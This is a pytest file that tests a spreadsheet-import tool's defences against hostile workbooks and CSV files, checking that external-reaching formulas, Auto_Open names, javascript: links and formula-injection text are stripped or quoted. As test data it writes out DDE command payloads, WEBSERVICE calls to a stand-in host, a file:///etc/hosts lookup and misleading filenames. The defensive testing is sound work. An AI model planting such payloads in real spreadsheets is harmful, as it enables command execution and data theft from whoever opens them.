"""A centre's workbook may be malicious, or be made so on its way: what goes back reaches for nothing outside it."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from tests.hostile.payloads import PAYLOADS
from tests.support import PEOPLE, Run

from reinsert_cli.importers.returns.outside import reaches_outside

TO_B1 = ("--as", "distributions", "--batch", "b1", "--envelope", "env", "--format", "json")
WRONG = ("Autre", "Omar", "ZZ9", "H", "Fès", "Coiffure", "équipement", "12,34,56")


@pytest.fixture
def give_back(planned: Path, tmp_path: Path, run: Run) -> Callable[[Path], Any]:
    """Import a file that has something to mend, and open what goes back."""

    def give_back_(path: Path) -> Any:
        answer = run("import", path, *TO_B1, "--returns", tmp_path / "out", status=1)
        return load_workbook(answer.json["files"][0]["returned"])

    return give_back_


def a_list(path: Path, change: Callable[[Any], object]) -> Path:
    book = Workbook()
    for row in (*PEOPLE, WRONG):
        book.worksheets[0].append(row)
    change(book)
    book.save(path)
    return path


@pytest.mark.parametrize(
    ("formula", "is_outside"),
    [
        ("=SUM(H2:H4)", False),
        ('=IF(A1="a|b","[1]","x")', False),
        ("='[1]Prix'!A1", True),
        ("=cmd|'/C calc'!A0", True),
        ('=WEBSERVICE("http"&A1)', True),
        ('=hyperlink("#Feuil2!A1")', True),
        ("=INDIRECT(\"'file:///etc/hosts'#$x.A1\")", True),
        ("='\\\\host\\share\\[x.xlsx]A'!A1", True),
        ("=_xlfn.IMAGE(A1)", True),
        ('=RTD("x",,"y")', True),
    ],
)
def test_what_reaches_outside(formula: str, is_outside: bool) -> None:
    assert reaches_outside(formula) is is_outside


def test_formulas_that_reach_outside_are_left_out_and_others_stay(give_back: Any, tmp_path: Path) -> None:
    def plant(book: Any) -> None:
        sheet = book.worksheets[0]
        sheet["J2"], sheet["J3"] = "=cmd|'/C calc'!A0", '=WEBSERVICE("http://example.invalid/"&C2)'
        sheet["J4"], sheet["J5"] = '=HYPERLINK("http://example.invalid/"&C2,"x")', "=H2*2"

    sheet = give_back(a_list(tmp_path / "liste.xlsx", plant))["Sheet"]
    assert [sheet[f"J{row}"].value for row in range(2, 6)] == ["#REF!", "#REF!", "#REF!", "=H2*2"]


def doctored(path: Path, pattern: str, instead: str) -> Path:
    """Give a copy of a workbook with something in its XML that no library writes."""
    copy = path.with_name("piege.xlsx")
    with zipfile.ZipFile(path) as before, zipfile.ZipFile(copy, "w") as after:
        for name in before.namelist():
            after.writestr(name, re.sub(pattern, instead, before.read(name).decode()))
    return copy


def test_what_such_a_formula_showed_is_no_formula(give_back: Any, tmp_path: Path) -> None:
    """The value that a file claims for a formula may itself look like one."""
    path = a_list(tmp_path / "liste.xlsx", lambda book: book.worksheets[0].__setitem__("J2", "=[1]x!A1"))
    value = r'<c r="J2"([^>]*)><f>([^<]*)</f><v ?/?>(</v>)?', r'<c r="J2" t="str"><f>\2</f><v>=1+1</v>'
    cell = give_back(doctored(path, *value))["Sheet"]["J2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


def test_links_to_addresses_become_words(give_back: Any, tmp_path: Path) -> None:
    """Also where the address looks like a formula; a link within the workbook stays."""

    def plant(book: Any) -> None:
        sheet = book.worksheets[0]
        sheet["J2"].hyperlink = "javascript:alert(1)"
        sheet["J3"].hyperlink = "http://example.invalid/x"
        sheet["J3"].value = "voir"
        sheet["J4"].hyperlink = "=1+1"
        sheet["J5"].hyperlink = "#Sheet!A1"

    path = doctored(a_list(tmp_path / "liste.xlsx", plant), r'<c r="J4"[^>]*><f>[^<]*</f><v ?/?>(</v>)?</c>', "")
    sheet = give_back(path)["Sheet"]
    assert [sheet[f"J{row}"].hyperlink for row in range(2, 5)] == [None, None, None]
    assert [sheet[f"J{row}"].value for row in range(2, 5)] == ["javascript:alert(1)", "voir", "=1+1"]
    assert sheet["J4"].data_type == "s"


def test_names_checks_and_rules_that_reach_outside_are_left_out(give_back: Any, tmp_path: Path) -> None:
    def plant(book: Any) -> None:
        sheet = book.worksheets[0]
        for name, formula in {
            "prix": "[1]x!$A$1",
            "Auto_Open": "Sheet!$A$1",
            "dde": "cmd|'x'!A0",
            "ici": "Sheet!$A$1",
        }.items():
            book.defined_names[name] = DefinedName(name, attr_text=formula)
        for formula in ("[1]x!$A$1:$A$9", "$A$1:$A$9"):
            check = DataValidation("list", formula)
            check.add("J2")
            sheet.add_data_validation(check)
        sheet.conditional_formatting.add("J3", FormulaRule(["[1]x!A1"]))
        sheet.conditional_formatting.add("J4", FormulaRule(["A1>1"]))

    book = give_back(a_list(tmp_path / "liste.xlsx", plant))
    sheet = book["Sheet"]
    assert list(book.defined_names) == ["ici"]
    assert [check.formula1 for check in sheet.data_validations.dataValidation] == ["$A$1:$A$9"]
    assert [str(part.sqref) for part in sheet.conditional_formatting] == ["J4"]


def test_texts_of_a_text_file_stay_texts(give_back: Any, tmp_path: Path) -> None:
    """Whatever they look like: no cell of the workbook that we make of a list is a formula or a link."""
    path = tmp_path / "liste.csv"
    texts = [text.replace(";", ",").replace('"', "'") for name, text in PAYLOADS.items() if not name.startswith("long")]
    lines = [";".join(map(str, row)) for row in (*PEOPLE, WRONG)]
    lines += [f'Autre;Omar;ZZ{8000 + number};H;Fès;"{text}";équipement;1' for number, text in enumerate(texts)]
    path.write_text("\n".join(lines).replace("\x00", ""), encoding="utf-8")
    book = give_back(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    looks_like = [cell for cell in cells if str(cell.value).startswith(tuple("=+-@＝＋－＠")) and cell.data_type == "s"]
    assert len(looks_like) >= 6
    assert all(cell.quotePrefix for cell in looks_like)
    links = [cell.hyperlink for cell in cells if cell.hyperlink]
    assert all(link.target is None for link in links)


@pytest.mark.parametrize(
    ("name", "returned"),
    [
        ("a\u202exslx.csv", "axslx.retour.xlsx"),
        ("-rf \x1b[2J.csv", "-rf [2J.retour.xlsx"),
        ("{0.__class__} %s.csv", "{0.__class__} %s.retour.xlsx"),
        ("n" * 250 + ".csv", "n" * 200 + ".retour.xlsx"),
        ("=1+1.csv", "=1+1.retour.xlsx"),
    ],
)
def test_the_name_of_what_goes_back(planned: Path, run: Run, tmp_path: Path, name: str, returned: str) -> None:
    """After the sender's file, but for what would mislead or cannot be; and no terminal obeys a name that is told."""
    path = tmp_path / name
    path.write_text("\n".join(";".join(map(str, row)) for row in (*PEOPLE, WRONG)), encoding="utf-8")
    answer = run("import", path, *TO_B1[:-2], "--returns", tmp_path / "out", status=1)
    assert [made.name for made in (tmp_path / "out").iterdir()] == [returned]
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", answer.out + answer.err)
